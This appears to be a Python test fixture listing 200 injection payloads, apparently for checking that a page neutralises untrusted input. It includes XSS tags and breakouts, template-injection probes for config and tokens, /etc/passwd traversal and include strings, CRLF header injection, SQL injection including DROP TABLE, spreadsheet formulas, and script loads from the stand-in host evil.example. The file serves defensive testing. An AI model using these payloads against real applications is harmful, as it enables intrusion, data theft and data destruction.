"""Two hundred texts that would run if any page let them: mark-up, attributes, addresses, templates, encodings.

Each calls `pwned` when it runs; the browser tests watch for it, the others look at the parsed page.
"""

TAGS = [
    "<script>pwned()</script>", "<ScRiPt>pwned()</sCrIpT>", "<script src=//evil.example/x.js></script>", "<img src=x onerror=pwned()>",
    "<svg onload=pwned()>", "<svg><script>pwned()</script></svg>", "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>", "<body onload=pwned()>", "<iframe srcdoc='<script>parent.pwned()</script>'>",
    "<iframe src=javascript:parent.pwned()>", "<object data=javascript:pwned()>", "<embed src=javascript:pwned()>", "<a href=javascript:pwned()>x</a>",
    "<details open ontoggle=pwned()>", "<input autofocus onfocus=pwned()>", "<select autofocus onfocus=pwned()>", "<textarea autofocus onfocus=pwned()>",
    "<video><source onerror=pwned()>", "<audio src=x onerror=pwned()>", "<marquee onstart=pwned()>", "<meta http-equiv=refresh content='0;url=javascript:pwned()'>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<base href=//evil.example/>", "<style>@import '//evil.example/x.css';</style>", "<form action=javascript:pwned()><button>x",
    "<button formaction=javascript:pwned()>x</button>", "<template><script>pwned()</script></template>", "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
    "<!--<img src='--><img src=x onerror=pwned()>'>", "<![CDATA[<img src=x onerror=pwned()>]]>", "<?xml version='1.0'?><script>pwned()</script>",
    "<plaintext><script>pwned()</script>", "<xmp><img src=x onerror=pwned()></xmp>", "<frameset onload=pwned()>", "<dialog open onclose=pwned()>",
    "<div hx-get=/x hx-trigger=load hx-on::load=pwned()>x</div>", "<div hx-on:click=pwned() data-hx-get=//evil.example>x</div>", "<div style=background:url(javascript:pwned())>", "<p id=pwned onclick=pwned()>x",
]  # fmt: skip
BREAKOUTS = ['"', "'", "`", '">', "'>", "</title>", "</textarea>", "</mark>", '" ', "\u2028"]
TEMPLATES = [
    "{{7*7}}", "{{ request.app.state.tokens }}", "{% include '/etc/passwd' %}", "{{ ''.__class__.__mro__ }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('pwned()')()}}",
    "%{7*7}", "[[${7*7}]]", "{{=7*7}}", "{php}pwned(){/php}", "{{config}}", "{{ cycler.__init__.__globals__ }}", "{# comment #}", "{%raw%}", "{{ self }}", "@(7*7)", "~{7*7}", "*{7*7}",
]  # fmt: skip
OTHERS = [
    "javascript:pwned()", "JaVaScRiPt:pwned()", "java\tscript:pwned()", "java\nscript:pwned()", "data:text/html,<script>pwned()</script>", "vbscript:pwned()", "//evil.example/x", "\\\\evil.example\\x",
    "https://evil.example/", "&lt;script&gt;pwned()&lt;/script&gt;", "&#60;script&#62;pwned()&#60;/script&#62;", "&#x3C;script>pwned()</script>", "%3Cscript%3Epwned()%3C/script%3E", "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
    "＜script＞pwned()＜/script＞", "<scr\u00adipt>pwned()</script>", "<scr\u200bipt>pwned()</script>", "\u202e<script>pwned()</script>", "' onmouseover=pwned() '", '" onmouseover="pwned()" x="', '" autofocus onfocus="pwned()',
    "'; pwned(); '", '"; pwned(); "', "`; pwned(); `", "${pwned()}", "</script><script>pwned()</script>", "]]><script>pwned()</script>", "--><script>pwned()</script>", "*/pwned()/*", "\r\nSet-Cookie: svod_token=x",
    "\r\nLocation: //evil.example", "../../../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2fetc%2fpasswd", "x' OR '1'='1", "x'; DROP TABLE documents; --", '{"query":{"match_all":{}}}', '*:*" OR "', "=1+1", "@SUM(1)",
]  # fmt: skip
PAYLOADS = [
    *TAGS, *(f"{b}{tag}" for b in BREAKOUTS for tag in (TAGS[0], TAGS[3], TAGS[4], TAGS[7], TAGS[13], TAGS[14], TAGS[15], TAGS[36], TAGS[21], TAGS[27])),
    *TEMPLATES, *OTHERS,
]  # fmt: skip
assert len(PAYLOADS) == len(set(PAYLOADS)) == 200
